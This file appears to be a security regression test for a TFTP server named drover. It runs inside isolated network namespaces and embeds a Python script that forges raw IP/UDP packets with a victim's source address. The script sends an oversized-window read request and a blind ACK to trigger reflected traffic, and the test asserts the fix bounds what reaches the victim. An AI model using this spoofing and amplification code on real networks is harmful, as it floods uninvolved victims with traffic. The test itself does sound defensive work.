/**
 * Issue 13 item 6 on a real wire: an off-path attacker in one namespace spoofs a victim's address (another
 * namespace on the same bridge) to make drover's TFTP server send data at the victim. The attacker learns
 * the shared data-plane port from a transfer of its own, then sends — with the victim's source address and
 * port, through a raw socket — an RRQ asking for the largest blocks and window, and a blind ACK 0 to that
 * port. The victim binds the spoofed port and stays silent (the worst case: no ICMP error stops the server).
 * Pass = what reaches the victim is bounded by the first window (8 KiB) sent at most 3 times, plus the OACKs.
 * Before issue 13 the same 105 bytes brought ~5.1 MB (docs/security.md). Needs root and iproute2; traffic
 * stays inside the lab's namespaces.
 */
import { afterAll, beforeAll, expect, test } from "bun:test";
import { join } from "node:path";
import { tempDir } from "../helpers/cli";
import { type DroverProcess, startDroverIn } from "../helpers/drover-server";
import { Lab, type LabClient } from "../helpers/netns";

const skipWhy = Lab.unavailable() ?? (Bun.which("python3") ? undefined : "needs python3 (raw sockets for the spoofed packets)");
if (skipWhy) console.log(`skipping the spoofed-TFTP test: ${skipWhy}`);

const VICTIM_PORT = 40000;
let lab: Lab;
let server: DroverProcess;
let attacker: LabClient;
let victim: LabClient;
const t = tempDir("drover-tftp-spoof-");
const attackerIp = () => `${lab.subnet}.50`;
const victimIp = () => `${lab.subnet}.60`;

beforeAll(async () => {
  if (skipWhy) return;
  lab = await Lab.create();
  attacker = lab.addClient("atk");
  victim = lab.addClient("vic");
  lab.sh(attacker.ns, `ip addr add ${attackerIp()}/24 dev ${attacker.ifname}`);
  lab.sh(victim.ns, `ip addr add ${victimIp()}/24 dev ${victim.ifname}`);
  server = await startDroverIn(lab, join(t.dir, "data"), ["--port", "9873", "--listen", lab.serverIp], /drover: (TFTP|DHCP is off)/, { fromSource: true });
}, 60_000);
afterAll(async () => {
  await server?.stop();
  await lab?.destroy();
  t.cleanup();
});

// The victim: a bound, silent socket on the spoofed port; prints the bytes and datagrams that reached it
// (UDP payloads) once nothing has arrived for 3 s.
const VICTIM = `
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("0.0.0.0", ${VICTIM_PORT}))
print("ready", flush=True)
s.settimeout(20)
n = b = 0
try:
    while True:
        d, a = s.recvfrom(70000)
        n += 1; b += len(d)
        s.settimeout(3)
except socket.timeout:
    pass
print(n, b, flush=True)
`;

// The attacker: (1) a transfer of its own to learn the data-plane port, (2) the spoofed RRQ, (3) a blind
// spoofed ACK 0 to that port. Prints the spoofed bytes it sent (UDP payloads).
const ATTACKER = (server: string, victim: string) => `
import socket, struct, time
SERVER, VICTIM, VPORT = "${server}", "${victim}", ${VICTIM_PORT}
def rrq(opts):
    return b"\\x00\\x01ipxe.efi\\x00octet\\x00" + b"".join(k.encode() + b"\\x00" + v.encode() + b"\\x00" for k, v in opts)
own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
own.settimeout(5)
own.sendto(rrq([("blksize", "1468")]), (SERVER, 69))
d, (_, dataport) = own.recvfrom(70000)
assert d[:2] in (b"\\x00\\x06", b"\\x00\\x03"), d[:4]
own.close()
def spoof(payload, dport):
    udp = struct.pack("!HHHH", VPORT, dport, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, socket.inet_aton(VICTIM), socket.inet_aton(SERVER))
    raw.sendto(ip + udp, (SERVER, 0))
    return len(payload)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = spoof(rrq([("blksize", "65464"), ("windowsize", "64"), ("tsize", "0")]), 69)
time.sleep(0.05)
sent += spoof(b"\\x00\\x04\\x00\\x00", dataport)
print(dataport, sent, flush=True)
`;

test.skipIf(!!skipWhy)(
  "a spoofed RRQ + blind ACK 0 from another namespace sends the victim at most 3 × 8 KiB",
  async () => {
    const v = lab.spawn(victim.ns, ["python3", "-c", VICTIM], { stdout: "pipe", stderr: "pipe" });
    const out = v.stdout as ReadableStream<Uint8Array>;
    const reader = out.getReader();
    let text = "";
    while (!text.includes("ready")) {
      const { value, done } = await reader.read();
      if (done) throw new Error(`victim ended: ${await new Response(v.stderr as ReadableStream).text()}`);
      text += new TextDecoder().decode(value);
    }
    const a = lab.run(attacker.ns, ["python3", "-c", ATTACKER(lab.serverIp, victimIp())], { timeoutMs: 20_000 });
    expect(`exit ${a.code} ${a.err}`).toBe("exit 0 ");
    const [dataport, sent] = a.out.trim().split(" ").map(Number);
    for (;;) {
      const { value, done } = await reader.read();
      if (done) break;
      text += new TextDecoder().decode(value);
    }
    await v.exited;
    const [packets, bytes] = text.replace("ready", "").trim().split(/\s+/).map(Number) as [number, number];
    console.log(
      `tftp spoof: data-plane port ${dataport}; ${sent} spoofed bytes → ${packets} datagrams, ${bytes} bytes at the victim (${Math.round(bytes / sent!)}× in payload)`,
    );
    // Something reached the victim (the server did answer the spoofed request), bounded by the first window:
    // 5 blocks of 1468 + 4 header bytes, sent at most 3 times, plus at most 3 OACKs.
    expect(packets).toBeGreaterThan(0);
    expect(bytes).toBeLessThanOrEqual(3 * 5 * 1472 + 3 * 64);
    expect(packets).toBeLessThanOrEqual(3 * 5 + 3);
  },
  60_000,
);
